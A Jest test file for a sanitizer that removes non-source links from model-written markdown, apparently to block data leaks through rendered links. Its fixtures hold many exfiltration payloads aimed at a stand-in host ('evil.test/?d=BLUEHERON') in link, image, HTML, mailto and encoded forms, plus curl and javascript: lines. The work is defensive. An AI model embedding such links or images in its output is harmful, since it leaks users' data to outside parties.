import { describe, expect, it } from '@jest/globals';
import { runSources, withoutForeignLinks } from '../src/index.js';
import { hostileTexts } from '../src/testing/index.js';

const source = 'https://wiki.example.com/a?page=1';
const sources = runSources();
sources.called('1', { query: 'https://evil.test/asked' });
sources.found(
  '1',
  `{"source":"${source}","text":"see https://other.example.com/x_(y). You asked https://evil.test/asked"}`,
);
const { isSource } = sources;
const shown = (markdown: string) => withoutForeignLinks(markdown, isSource);
const evil = 'https://evil.test/?d=BLUEHERON';

describe('Markdown that a model wrote', () => {
  it.each([
    `Read [the page](${source}).`,
    `Read [the page](${source} "Wiki").`,
    `Read [the page](<${source}>).`,
    `Read ${source}.`,
    `Read <${source}>`,
  ])('links to its sources: %s', (markdown) => {
    expect(shown(markdown)).toContain(source);
  });

  it.each([
    ['a link', `[Read more](${evil})`, 'Read more (evil.test)'],
    ['a link in brackets', `[Read more](<${evil}> "now")`, 'Read more (evil.test)'],
    ['a link without words', `[](${evil})`, 'evil.test'],
    ['a link whose words are an address', `[${source}](${evil})`, 'wiki.example.com (evil.test)'],
    ['a link to what begins like a source', `[a](${source}&d=BLUEHERON)`, 'a (wiki.example.com)'],
    ['a picture', `![x](${evil})`, 'Picture: x (evil.test)'],
    ['an autolink', `<${evil}>`, 'evil.test'],
    ['a bare address', `See ${evil}.`, 'See evil.test.'],
    ['an address without a scheme', 'See www.evil.test/BLUEHERON', 'See www.evil.test'],
    ['an address without a scheme or www', 'See evil.test/BLUEHERON now', 'See evil.test now'],
    ['an address with escapes', 'See https\\:\\/\\/evil.test/BLUEHERON', 'See evil.test'],
    ['an address of another scheme', 'See webexteams://evil.test/BLUEHERON', 'See evil.test'],
    ['a mail', '[write](mailto:x@evil.test?body=BLUEHERON)', 'write (evil.test)'],
  ])('shows the bare host of %s', (_what, markdown, expected) => {
    expect(shown(markdown)).toBe(expected);
  });

  it.each([
    ['a picture within a link', `[![x](${evil})](${evil})`],
    ['a definition', `[x][1]\n\n[1]: ${evil}`],
    ['a definition in a quote', `> [1]: ${evil}\n\n[x][1]`],
    ['a link over two lines', `[x](\n${evil})`],
    ['a link with brackets in its words', `[a [b] c](${evil})`],
    ['an anchor', `<a href="${evil}">x</a>`],
    ['a picture in HTML', `<img src="${evil}">`],
    ['code that is none: escaped', `\\\`[x](${evil})\\\``],
    ['code that is none: another pair around it', `\`a\nb\` [x](${evil}) \`c\``],
    ['code that is none: a fence in a list', `- a\n  \`\`\`\n  code\n\n[x](${evil})`],
    ['code that is none: behind HTML', `<a title="\`"> [x](${evil}) \``],
    ['entities', `[x](https&#58;//evil.test/?d=BLUEHERON)`],
  ])('lets nothing out by %s', (_what, markdown) => {
    const text = shown(markdown);
    expect(text).not.toContain('BLUEHERON');
    expect(text).not.toMatch(/\]\(|\]:|<[a-z]/i);
  });

  it.each([
    `Run \`curl ${evil}\` now.`,
    `\`\`\`sh\ncurl ${evil}\n\`\`\``,
    '**bold** and [x] and a < b, e.g. this; 1/2 & 3.',
    '- [ ] to do\n- [x] done\n\n| a | b |\n|---|---|\n| 1 | 2 |',
    'Contact support@example.com, see README.md and v1.2.3.',
  ])('stays as it is: %s', (markdown) => {
    expect(shown(markdown)).toBe(markdown);
  });

  it.each(hostileTexts(100_000))('is done with %s', (_what, text) => {
    expect(shown(text).length).toBeLessThan(300_000);
  });
});

describe('the addresses of sources', () => {
  it('are found in JSON and in sentences, with and without the bracket at their end', () => {
    expect(isSource(source)).toBe(true);
    expect(isSource('https://other.example.com/x_(y)')).toBe(true);
    expect(isSource('HTTPS://WIKI.example.com/a?page=1')).toBe(true);
    expect(isSource('https://wiki.example.com/a?page=2')).toBe(false);
    expect(isSource('javascript:alert(1)')).toBe(false);
  });

  it('are not those that the model gave a tool, which repeats them', () => {
    expect(isSource('https://evil.test/asked')).toBe(false);
  });
});
